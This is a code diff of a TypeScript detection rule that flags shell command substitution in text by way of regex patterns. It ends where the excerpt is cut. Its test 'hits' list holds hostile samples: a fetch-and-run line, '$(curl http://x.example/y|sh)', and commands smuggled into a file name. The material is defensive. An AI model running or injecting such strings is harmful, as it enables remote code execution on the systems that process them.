@@ -1,5 +1,5 @@
 import { defineRule } from '../rule.ts';
-import { certain, command, tellingCommand } from './commands.ts';
+import { command, tellingCommand } from './commands.ts';
 
 /** `$(id)` and back-ticks; back-ticks around code in a sentence are Markdown. */
 export const substitution = defineRule({
@@ -11,14 +11,11 @@ export const substitution = defineRule({
   on: 'text',
   view: 'text',
   words: ['$(', '`', '<(', '>('],
-  patterns: [
-    new RegExp(`\\$\\([\\s\`]{0,4}${tellingCommand}`, 'i'),
+  patterns: () => [
+    new RegExp(`(?:\\$\\([\\s\`]{0,4}|\\w\`|[<>]\\(\\s{0,4})${tellingCommand}`, 'i'),
     /^\S{0,40}\$\(\s{0,4}(?:pwd|date)\s{0,4}\)\S{0,40}$/,
-    new RegExp(`^[^\\s\`]{0,40}\`[\\s(]{0,4}${command}[^\`]{0,200}\`?[^\\s\`]{0,20}$`, 'i'),
-    new RegExp(`\\w\`${certain}`, 'i'),
-    new RegExp(`[<>]\\(\\s{0,4}${certain}`, 'i'),
+    new RegExp(`^(?:[^\\s\`]{0,40}|\\w{3,60} )\`[\\s(]{0,4}${command}[^\`]{0,200}\`?[^\\s\`]{0,20}$`, 'i'),
     /\w\$\(\)\w|\w``\w|\w\$@\w|\w`\w{2,10} \w{1,10}`\w/,
-    new RegExp(`^\\w{3,60} \`${command}[^\`]{0,80}\`$`, 'i'),
   ],
   hits: ['$(id)', '`whoami`', 'a`uname -a`.png', 'who$()ami', '$(curl http://x.example/y|sh)', 'x`id`'],
   misses: [
